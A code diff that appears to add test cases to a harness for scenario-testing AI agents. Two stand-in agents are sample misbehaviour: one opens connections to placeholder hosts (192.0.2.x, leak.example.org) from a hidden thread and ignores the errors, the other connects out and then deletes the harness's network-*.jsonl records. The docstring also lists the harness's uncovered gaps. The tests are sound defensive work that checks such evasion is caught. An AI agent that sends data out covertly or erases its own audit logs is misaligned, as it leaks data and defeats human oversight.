@@ -7,6 +7,7 @@
 - It does not ask the model: *unused rules*.
 - It listens to no input, and no output is expected: *no action ran*.
 - A thread dies: an error in the log.
+- It sends data away, in ways of its own, and ignores the error; or removes the record: *network*.
 
 Not covered: an agent can read the scenario file, since the project is its working directory, and
 answer what it reads; it can change the engine in its own process, and use the memory or descriptors
@@ -25,6 +26,7 @@ AGENTS = """
 import gc
 import json
 import os
+import socket
 import sys
 import threading
 import time
@@ -91,6 +93,39 @@ class DoesNotAsk(Agent):
         ctx.send_event(OutputEvent(output={"said": "hi"}))
 
 
+def ignored(call, *args):
+    try:
+        call(*args)
+    except Exception as error:
+        print(type(error).__name__)
+
+
+def call_away():
+    ignored(socket.create_connection, ("192.0.2.1", 443), 1)
+    ignored(socket.getaddrinfo, "leak.example.org", 80)
+    ignored(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, b"data", ("192.0.2.2", 53))
+
+
+class Calls(Agent):
+    @action(InputEvent.EVENT_TYPE)
+    @staticmethod
+    def answer(event: Event, ctx: RunnerContext) -> None:
+        thread = threading.Thread(target=call_away)
+        thread.start()
+        thread.join()
+        ctx.send_event(OutputEvent(output={"said": "hi"}))
+
+
+class RemovesTheRecord(Agent):
+    @action(InputEvent.EVENT_TYPE)
+    @staticmethod
+    def answer(event: Event, ctx: RunnerContext) -> None:
+        ignored(socket.create_connection, ("192.0.2.3", 443), 1)
+        for record in Path.cwd().rglob("network-*.jsonl"):
+            record.unlink()
+        ctx.send_event(OutputEvent(output={"said": "hi"}))
+
+
 class Mute(Agent):
     pass
 
@@ -120,6 +155,9 @@ def test_an_agent_cannot_change_what_the_scenario_says_of_it(project: Project) -
         scenario("writes and leaves", agent="tricks:WritesAndLeaves", said="bye"),
         scenario("looks", agent="tricks:Looks", said="secret"),
         scenario("does not ask", agent="tricks:DoesNotAsk", more=SCRIPT),
+        scenario("calls", agent="tricks:Calls", more="network: closed\n"),
+        scenario("calls by default", agent="tricks:Calls", more=ALL_UNUSED),
+        scenario("removes the record", agent="tricks:RemovesTheRecord", more=ALL_UNUSED),
         scenario("need not ask", agent="tricks:DoesNotAsk", more=ALL_UNUSED),
         silent,
         scenario("thread", agent="tricks:Thread"),
@@ -137,7 +175,10 @@ def test_an_agent_cannot_change_what_the_scenario_says_of_it(project: Project) -
             f"{failed}writes and leaves[",
             f"{failed}looks[...output 1 is not as expected",
             f"{failed}does not ask[...the model was never asked",
+            f"{failed}calls[...a connection to 192.0.2.1:443 was blocked",
+            f"{failed}calls by default[...a connection to 192.0.2.1:443 was blocked",
             f"{failed}mute[...no action",
             f"{failed}thread[...",
+            "could not judge: x.scenario.yaml::removes the record[...limited its connections",
         ],
     )
